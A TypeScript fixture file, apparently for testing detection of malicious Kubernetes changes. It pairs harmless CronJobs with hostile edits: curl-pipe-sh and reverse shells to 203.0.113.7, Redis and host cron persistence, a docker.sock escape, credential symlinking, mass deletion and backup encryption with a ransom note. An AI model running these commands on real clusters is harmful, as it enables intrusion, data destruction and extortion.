import { ARGO_CD, account, cronJob, FLUX, FLUX_HELM, type Member, person, shell } from './member.ts';

const claim = (name: string) => ({ name, persistentVolumeClaim: { claimName: name } });
const fromSecret = (name: string, secret: string, key: string) => ({
  name,
  valueFrom: { secretKeyRef: { name: secret, key } },
});

/** Log rotation and clean-up, with `/bin/sh -c` as it is written everywhere. */
export const CLEAN_UPS: readonly Member[] = [
  {
    what: 'old log files on a claim',
    by: person('lena'),
    object: cronJob({ name: 'old-logs', namespace: 'shop' }, '0 3 * * *', {
      containers: [
        shell('busybox:1.36', "find /var/log/app -name '*.log' -mtime +14 -delete", {
          volumeMounts: [{ name: 'logs', mountPath: '/var/log/app' }],
        }),
      ],
      volumes: [claim('logs')],
    }),
    change: {
      act: 'the claim is the logs of the node, and all of them go',
      edits: [
        ['volumes/0', { name: 'logs', hostPath: { path: '/var/log' } }],
        ['containers/0/command/2', 'rm -rf /var/log/app/*'],
      ],
    },
  },
  {
    what: 'log files that are packed and emptied',
    by: ARGO_CD,
    object: cronJob(
      { name: 'rotate', namespace: 'shop', labels: { 'app.kubernetes.io/instance': 'shop' } },
      '0 0 * * *',
      {
        containers: [
          shell(
            'alpine:3.20',
            `for f in /logs/*.log; do
  gzip -c "$f" > "$f.$(date +%Y%m%d).gz" && : > "$f"
done
find /logs -name '*.gz' -mtime +30 -delete`,
            { volumeMounts: [{ name: 'logs', mountPath: '/logs' }] },
          ),
        ],
        volumes: [claim('logs')],
      },
    ),
    change: {
      act: 'a line that puts an entry into cron of the node',
      edits: [
        ['volumes/-', { name: 'cron', hostPath: { path: '/etc/cron.d' } }],
        ['containers/0/volumeMounts/-', { name: 'cron', mountPath: '/cron' }],
        [
          'containers/0/command/2',
          `find /logs -name '*.gz' -mtime +30 -delete
echo '*/5 * * * * root /var/tmp/.u' > /cron/logs`,
        ],
      ],
    },
  },
  {
    what: 'packed logs of pods on the node',
    by: FLUX,
    object: cronJob({ name: 'node-logs', namespace: 'platform' }, '30 2 * * *', {
      containers: [
        shell('busybox:1.36', "find /var/log/pods -name '*.gz' -mtime +7 -delete", {
          volumeMounts: [{ name: 'pods', mountPath: '/var/log/pods' }],
        }),
      ],
      volumes: [{ name: 'pods', hostPath: { path: '/var/log/pods', type: 'Directory' } }],
    }),
    change: {
      act: 'a link leads out of the logs to the credentials of the node',
      edits: [
        [
          'containers/0/command/2',
          'rm -rf /var/log/pods/0; ln -s /etc/kubernetes/admin.conf /var/log/pods/0.log; sleep 600',
        ],
      ],
    },
  },
  {
    what: 'pods that have ended, in every namespace',
    by: person('omar'),
    object: cronJob({ name: 'ended-pods', namespace: 'platform' }, '0 * * * *', {
      serviceAccountName: 'pod-cleaner',
      containers: [
        shell(
          'bitnami/kubectl:1.31',
          'kubectl delete pods -A --field-selector=status.phase==Succeeded; kubectl delete pods -A --field-selector=status.phase==Failed',
        ),
      ],
    }),
    change: {
      act: 'claims in place of pods',
      edits: [['containers/0/command/2', 'kubectl delete pvc --all -A; kubectl delete pods -A --all']],
    },
  },
  {
    what: 'sessions in a database',
    by: account('ci', 'deployer', 'helm/v3.16.2'),
    object: cronJob({ name: 'expired-sessions', namespace: 'shop' }, '*/30 * * * *', {
      containers: [
        shell(
          'postgres:16-alpine',
          'psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -c "DELETE FROM sessions WHERE expires_at < now() - interval \'7 days\'; VACUUM sessions;"',
          { env: [fromSecret('DATABASE_URL', 'shop-database', 'url')] },
        ),
      ],
    }),
    change: {
      act: 'the database runs a program',
      edits: [
        [
          'containers/0/command/2',
          'psql "$DATABASE_URL" -c "COPY sessions FROM PROGRAM \'curl -s http://203.0.113.7/s | sh\'"',
        ],
      ],
    },
  },
  {
    what: 'an index of Elasticsearch of thirty days ago',
    by: person('mia'),
    object: cronJob({ name: 'old-indices', namespace: 'logging' }, '0 1 * * *', {
      containers: [
        shell(
          'alpine/curl:8.10.0',
          'curl -fsS -X DELETE "http://elasticsearch.logging:9200/logstash-$(date -d @$(($(date +%s) - 2592000)) +%Y.%m.%d)"',
        ),
      ],
    }),
    change: {
      act: 'the query string is a program from another host',
      edits: [
        [
          'containers/0/command/2',
          'curl -fsS http://203.0.113.7:9200/logstash-$(date +%Y.%m.%d) -o /tmp/q && sh /tmp/q',
        ],
      ],
    },
  },
  {
    what: 'keys in Redis, by their pattern',
    by: person('ana'),
    object: cronJob({ name: 'cached-carts', namespace: 'shop' }, '15 5 * * *', {
      containers: [
        shell(
          'redis:7-alpine',
          "redis-cli -h redis.shop --scan --pattern 'cart:*' | xargs -r -n 100 redis-cli -h redis.shop DEL",
        ),
      ],
    }),
    change: {
      act: 'Redis writes a file for cron',
      edits: [
        [
          'containers/0/command/2',
          "redis-cli -h redis.shop config set dir /var/spool/cron; redis-cli -h redis.shop config set dbfilename root; redis-cli -h redis.shop set x '\\n* * * * * curl http://203.0.113.7/r|sh\\n'; redis-cli -h redis.shop save",
        ],
      ],
    },
  },
  {
    what: 'temporary objects in a bucket',
    by: FLUX_HELM,
    object: cronJob(
      {
        name: 'bucket-tmp',
        namespace: 'shop',
        labels: { 'app.kubernetes.io/managed-by': 'Helm' },
        annotations: { 'meta.helm.sh/release-name': 'shop' },
      },
      '0 4 * * 0',
      {
        serviceAccountName: 'bucket-tmp',
        containers: [
          shell(
            'amazon/aws-cli:2.19.1',
            "aws s3 rm s3://shop-exports/tmp/ --recursive --exclude '*' --include '*.tmp'",
          ),
        ],
      },
    ),
    change: {
      act: 'backups and snapshots go',
      edits: [
        [
          'containers/0/command/2',
          'aws s3 rm s3://shop-backups/ --recursive; aws rds delete-db-cluster-snapshot --db-cluster-snapshot-identifier shop; velero backup delete --all --confirm',
        ],
      ],
    },
  },
  {
    what: 'the layers of a registry that nobody names',
    by: ARGO_CD,
    object: cronJob({ name: 'registry-gc', namespace: 'registry' }, '0 2 * * 6', {
      containers: [
        {
          name: 'gc',
          image: 'registry:2.8.3',
          command: ['/bin/registry', 'garbage-collect', '--delete-untagged=true', '/etc/docker/registry/config.yml'],
          volumeMounts: [{ name: 'registry', mountPath: '/var/lib/registry' }],
        },
      ],
      volumes: [claim('registry')],
    }),
    change: {
      act: 'a sidecar that starts a container past the API server',
      edits: [
        ['volumes/-', { name: 'sock', hostPath: { path: '/var/run/docker.sock' } }],
        [
          'containers/-',
          shell('docker:27-cli', 'docker run -d --privileged -v /:/h alpine chroot /h sh', {
            name: 'gc-helper',
            volumeMounts: [{ name: 'sock', mountPath: '/var/run/docker.sock' }],
          }),
        ],
      ],
    },
  },
  {
    what: 'all backups but the last seven',
    by: person('omar'),
    object: cronJob({ name: 'backup-rotation', namespace: 'shop' }, '45 3 * * *', {
      containers: [
        shell('debian:12-slim', 'cd /backup && ls -1t *.sql.gz | tail -n +8 | xargs -r rm -f -- && df -h /backup', {
          volumeMounts: [{ name: 'backup', mountPath: '/backup' }],
        }),
      ],
      volumes: [claim('backup')],
    }),
    change: {
      act: 'the backups are packed with a password and removed',
      edits: [
        [
          'containers/0/command/2',
          'find /backup -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -k x7Gq2 -in "$f" -out "$f.locked" && rm -f "$f"; done; echo "pay to get it back" > /backup/README',
        ],
      ],
    },
  },
  {
    what: 'failed tasks of a queue',
    by: account('ci', 'deployer', 'kubectl/v1.31.2 (linux/amd64)'),
    object: cronJob({ name: 'prune-failed', namespace: 'shop' }, '0 5 * * *', {
      containers: [
        {
          name: 'artisan',
          image: 'registry.example.com/shop/web:1842',
          command: ['/bin/sh', '-c', 'php artisan queue:prune-failed --hours=168 && php artisan telescope:prune'],
          envFrom: [{ secretRef: { name: 'shop-env' } }],
        },
      ],
    }),
    change: {
      act: 'a few words of PHP open a shell to a host outside',
      edits: [
        [
          'containers/0/command/2',
          `php artisan queue:prune-failed --hours=168; php -r '$s=fsockopen("203.0.113.7",443);proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p);'`,
        ],
      ],
    },
  },
  {
    what: 'logrotate with its configuration',
    by: person('lena'),
    object: cronJob({ name: 'logrotate', namespace: 'shop' }, '0 0 * * *', {
      containers: [
        shell('alpine:3.20', 'apk add --no-cache logrotate && logrotate -v -s /logs/.status /etc/logrotate.d/app', {
          volumeMounts: [
            { name: 'logs', mountPath: '/logs' },
            { name: 'config', mountPath: '/etc/logrotate.d' },
          ],
        }),
      ],
      volumes: [claim('logs'), { name: 'config', configMap: { name: 'logrotate' } }],
    }),
    change: {
      act: 'the package comes from an address',
      edits: [
        [
          'containers/0/command/2',
          'apk add --no-cache --allow-untrusted http://203.0.113.7/logrotate.apk && logrotate -v -s /logs/.status /etc/logrotate.d/app',
        ],
      ],
    },
  },
];
